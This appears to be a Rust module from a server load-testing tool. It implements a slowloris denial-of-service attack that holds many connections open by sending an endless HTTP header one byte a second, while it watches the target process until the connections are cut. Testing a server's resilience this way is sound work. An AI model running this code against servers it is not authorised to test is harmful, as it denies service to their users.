//! Connections that send a request head, a byte a second.

use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::{Outcome, Watch};
use crate::load::client;

/// Between two bytes of a connection.
const STEP: Duration = Duration::from_secs(1);
/// The connections send in so many groups, one after the other, within a step.
const GROUPS: usize = 20;
/// What every head begins with; then its last field goes on and on.
const HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: slow.example\r\nX-Slow: ";

/// Opens `count` connections and sends until all are cut, or patience ends.
///
/// # Errors
/// When the connections can't be opened.
pub fn attack(address: SocketAddr, pid: u32, count: usize, patience: Duration) -> io::Result<Outcome> {
    let mut watch = Watch::start(pid, count)?;
    let open = |_| {
        let socket = client::connect(address)?;
        socket.set_nonblocking(true)?;
        Ok(Some(socket))
    };
    let mut sockets: Vec<Option<TcpStream>> = (0..count).map(open).collect::<io::Result<_>>()?;
    let mut sent = 0;
    while watch.elapsed() < patience {
        let start = Instant::now();
        for group in 0..GROUPS {
            let byte = [*HEAD.get(sent).unwrap_or(&b'x')];
            for socket in sockets.iter_mut().skip(group).step_by(GROUPS) {
                if socket.as_ref().is_some_and(|socket| !send(socket, byte)) {
                    *socket = None;
                }
            }
            if watch.look()? {
                return Ok(watch.outcome());
            }
            let due = start + STEP.mul_f64((group + 1) as f64 / GROUPS as f64);
            thread::sleep(due.saturating_duration_since(Instant::now()));
        }
        sent += 1;
    }
    Ok(watch.outcome())
}

/// Sends a byte; false if the server has closed the connection. An answer, such as a 408, is read and forgotten.
fn send(mut socket: &TcpStream, byte: [u8; 1]) -> bool {
    let mut answer = [0; 1024];
    let is_open = match socket.read(&mut answer) {
        Ok(bytes) => bytes > 0,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    };
    is_open && socket.write(&byte).is_ok()
}
